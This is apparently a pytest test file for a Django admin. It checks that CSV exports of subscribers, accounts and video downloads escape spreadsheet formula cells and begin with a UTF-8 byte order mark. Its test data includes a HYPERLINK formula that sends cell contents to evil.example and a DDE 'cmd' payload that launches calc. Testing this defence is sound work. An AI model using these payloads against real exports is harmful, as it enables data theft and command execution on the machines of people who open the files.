"""Every CSV export of the admin neutralises cells a spreadsheet would run as a
formula (issue 18, finding 9): subscribers, accounts and the video download log."""

import csv
import io

import pytest

from accounts.models import User
from cms.exports import neutralise_formula
from newsletter.models import Subscriber
from videos.models import VideoDownload

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def rows(response) -> list[dict]:
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(content)))


@pytest.mark.parametrize(
    "value, expected",
    [
        (FORMULA, "'" + FORMULA),
        ("+33 1 23 45", "'+33 1 23 45"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Daily Planet", "Daily Planet"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (None, None),
    ],
)
def test_neutralise_formula(value, expected):
    assert neutralise_formula(value) == expected


@pytest.mark.parametrize(
    "url",
    [
        "/admin/newsletter/subscribers/",
        "/admin/accounts/",
        "/admin/reports/downloads/",
    ],
)
def test_csv_is_utf8_with_a_byte_order_mark_for_excel(admin_client, url):
    """Issue 15: without the mark Excel showed "Le secrÃ©taire"."""
    user = User.objects.create_user(
        "secretaire@example.org", "x", organisation="Le secrétaire"
    )
    Subscriber.objects.create(email="secretaire@example.org", language="fr")
    VideoDownload.objects.create(
        user=user,
        video_title="Le secrétaire",
        language="fr",
        rendition="180p",
        kind="full",
    )
    response = admin_client.get(url, {"export": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    content = b"".join(response.streaming_content)
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.count(b"\xef\xbb\xbf") == 1
    decoded = content.decode("utf-8-sig")
    assert "secretaire@example.org" in decoded
    if url != "/admin/newsletter/subscribers/":
        assert "Le secrétaire" in decoded


def test_subscribers(admin_client):
    Subscriber.objects.create(email="+1+cmd@example.org", language="en")
    Subscriber.objects.create(email="plain@example.org", language="en")
    exported = rows(
        admin_client.get("/admin/newsletter/subscribers/", {"export": "csv"})
    )
    emails = {row["E-mail address"] for row in exported}
    assert {"'+1+cmd@example.org", "plain@example.org"} <= emails


def test_accounts(admin_client):
    User.objects.create_user("attacker@example.org", "x", organisation=FORMULA)
    User.objects.create_user("fine@example.org", "x", organisation="Radio Lac")
    exported = rows(admin_client.get("/admin/accounts/", {"export": "csv"}))
    by_email = {row["E-mail address"]: row for row in exported}
    assert by_email["attacker@example.org"]["Organisation"] == "'" + FORMULA
    assert by_email["fine@example.org"]["Organisation"] == "Radio Lac"


def test_video_downloads(admin_client):
    user = User.objects.create_user("a@example.org", "x", organisation="@SUM(1+1)")
    VideoDownload.objects.create(
        user=user,
        video_title="-1+1",
        language="en",
        rendition="180p",
        kind="full",
    )
    [row] = rows(admin_client.get("/admin/reports/downloads/?export=csv"))
    assert row["Organisation"] == "'@SUM(1+1)"
    assert row["Video or gallery"] == "'-1+1"
